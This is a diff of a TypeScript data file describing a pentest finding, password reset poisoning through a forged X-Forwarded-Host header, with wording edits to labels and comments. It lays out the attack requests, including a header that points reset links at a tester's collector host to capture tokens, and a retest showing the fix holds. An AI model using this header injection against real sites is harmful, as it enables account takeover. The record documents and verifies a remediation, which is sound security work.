@@ -2,7 +2,7 @@ import type { AttackPath } from './attack-path.ts';
 
 export const webPath: AttackPath = {
   id: 'IL-2026-019',
-  title: 'Password reset poisoning by a forwarded host',
+  title: 'Password reset poisoned by a forwarded host',
   vector: 'CVSS:4.0/AV:N/AC:L/AT:N/PR:N/UI:A/VC:H/VI:H/VA:N/SC:N/SI:N/SA:N',
   reported: '2026-02-10',
   retested: '2026-02-17',
@@ -18,10 +18,10 @@ export const webPath: AttackPath = {
       lines: ['GET /account/forgot HTTP/1.1', 'Host: app.kestrel.example', '', 'HTTP/1.1 200 OK'],
     },
     {
-      label: 'reset mail',
+      label: 'reset email',
       glyph: 'mail',
       lane: 2,
-      name: 'Name a host of ours',
+      name: 'Send our own host name',
       lines: [
         'POST /account/forgot HTTP/1.1',
         'X-Forwarded-Host: {-collector.tester.example-} {#1}',
@@ -45,12 +45,12 @@ export const webPath: AttackPath = {
       lane: 1,
       name: 'Wait for one click',
       lines: [
-        '# link in the mail of our second account',
+        '# link in the email to our second account',
         'https://{-collector.tester.example-}/account/reset',
         '    ?token={+9b1f[redacted]+}',
       ],
       after: [
-        '# link in the mail of our second account',
+        '# link in the email to our second account',
         'https://{+app.kestrel.example+}/account/reset',
         '    ?token=9b1f[redacted]',
       ],
@@ -67,7 +67,7 @@ export const webPath: AttackPath = {
         'HTTP/1.1 303 See Other',
         'Location: {+/dashboard+}',
       ],
-      after: ['# no token has arrived at the collector', '0 requests in 24 hours, {+3 variants tried+}'],
+      after: ['# no token reached the collector', '0 requests in 24 hours, {+3 variants tried+}'],
     },
   ],
 };
